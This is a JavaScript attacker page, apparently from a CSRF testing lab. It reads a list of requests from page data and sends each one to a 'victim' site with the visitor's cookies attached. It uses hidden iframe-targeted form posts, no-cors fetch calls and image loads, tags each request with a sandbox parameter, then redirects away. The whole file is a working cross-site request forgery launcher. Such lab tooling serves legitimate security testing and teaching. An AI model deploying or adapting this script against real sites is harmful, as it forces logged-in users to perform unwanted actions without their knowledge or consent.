// Sends the requests that stand in the page, one after the other, and leaves. This page may read no answer.

const progress = document.getElementById('progress');
const { requests, victim, sandbox, done } = progress.dataset;

const send = (address, options) => fetch(address, { mode: 'no-cors', credentials: 'include', ...options });
const form = (fields) => new URLSearchParams(fields).toString();
const json = (fields) => JSON.stringify(Object.fromEntries(fields));

const ways = {
  form: submit,
  fetch_form: (address, fields) =>
    send(address, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: form(fields) }),
  fetch_text: (address, fields) =>
    send(address, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: json(fields) }),
  fetch_put: (address, fields) =>
    send(address, { method: 'PUT', mode: 'cors', headers: { 'content-type': 'application/json' }, body: json(fields) }),
  fetch_get: (address, fields) => send(`${address}&${form(fields)}`, {}),
  image: (address, fields) => load(`${address}&${form(fields)}`),
};

/** Into a frame, so that this page stays: what comes back is no page that could lead here again. */
function submit(address, fields) {
  const frame = document.createElement('iframe');
  Object.assign(frame, { name: 'answer', hidden: true });
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: address, target: 'answer', hidden: true });
  for (const [name, value] of fields) {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  }
  document.body.append(form);
  const settled = new Promise((settled) => { frame.onload = settled; });
  form.submit();
  return settled.then(() => { frame.remove(); form.remove(); });
}

function load(address) {
  return new Promise((settled) => {
    const image = new Image();
    image.onload = image.onerror = settled;
    image.src = address;
  });
}

async function run() {
  const all = JSON.parse(requests);
  for (const [n, { way, path, fields }] of all.entries()) {
    progress.textContent = `Request ${n + 1} of ${all.length}: ${path}`;
    // The query says where the lab is to note it; the cookie that says so may stay at home.
    const address = `${victim}${path}?sandbox=${sandbox}`;
    await ways[way](address, fields).catch(() => undefined);
  }
  progress.textContent = 'That was all.';
  location.replace(done);
}

run();
